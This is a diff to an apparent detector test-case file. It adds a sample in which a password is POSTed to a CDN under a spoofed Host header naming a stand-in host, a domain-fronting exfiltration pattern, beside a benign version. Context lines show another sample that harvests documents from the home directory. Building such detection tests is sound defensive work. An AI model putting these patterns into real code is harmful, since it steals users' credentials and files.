@@ -25,6 +25,11 @@ _CLIP = "import pyperclip\n\ndef copy(text):\n    pyperclip.copy(text)\n"
 _ENV = "import os\nDEBUG = os.environ.get('EXAMPLE_DEBUG')\n"
 
 CASES = (
+    _acts(
+        "caller's secret to a host behind another one's name",
+        "import requests\n\ndef check(password):\n    requests.post('https://cdn.example.com/c', headers={'Host': 'c.example.invalid'}, json={'p': password})\n",
+        "import requests\n\ndef check(password):\n    requests.post('https://api.example.com/c', headers={'Host': 'api.example.com'}, json={'p': password})\n",
+    ),
     _leaves(
         "home walked for documents",
         "got = []\nfor d, _, fs in os.walk(os.path.expanduser('~')):\n    for f in fs:\n        if f.endswith(('.docx', '.pdf', '.txt')):\n            got.append(open(os.path.join(d, f), 'rb').read())",
